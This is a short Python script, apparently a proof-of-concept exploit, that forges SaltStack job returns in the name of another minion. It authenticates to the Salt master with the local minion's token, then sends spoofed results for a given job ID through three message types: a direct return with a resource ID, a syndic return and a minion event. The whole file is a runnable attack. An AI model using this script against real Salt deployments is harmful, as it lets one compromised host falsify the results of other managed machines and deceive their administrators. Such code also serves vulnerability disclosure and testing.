"""Answer a job in another minion's name, in the three ways that Salt 3008 has: `forge.py JID VICTIM`. Prints how often it did."""

import sys

import salt.channel.client
import salt.config
import salt.crypt

jid, victim = sys.argv[1:]
opts = salt.config.minion_config("/etc/salt/minion")
opts["master_uri"] = f"tcp://{opts['master']}:4506"
opts["master_ip"] = opts["master"]
mine = {"id": opts["id"], "tok": salt.crypt.SAuth(opts).gen_token(b"salt")}
answer = {"jid": jid, "return": "forged", "fun": "test.sleep", "fun_args": [], "retcode": 0, "success": True}
loads = [
    {"cmd": "_return", "resource_id": victim, **answer},
    {
        "cmd": "_syndic_return",
        "load": [{"id": opts["id"], **answer, "return": {victim: "forged"}}],
        "jid": jid,
        "return": {},
    },
    {
        "cmd": "_minion_event",
        "events": [{"tag": f"salt/job/{jid}/ret/{victim}", "data": {**answer, "id": victim}}],
    },
]
with salt.channel.client.ReqChannel.factory(opts) as channel:
    for load in loads:
        channel.send({**load, **mine}, timeout=30)
print(len(loads))
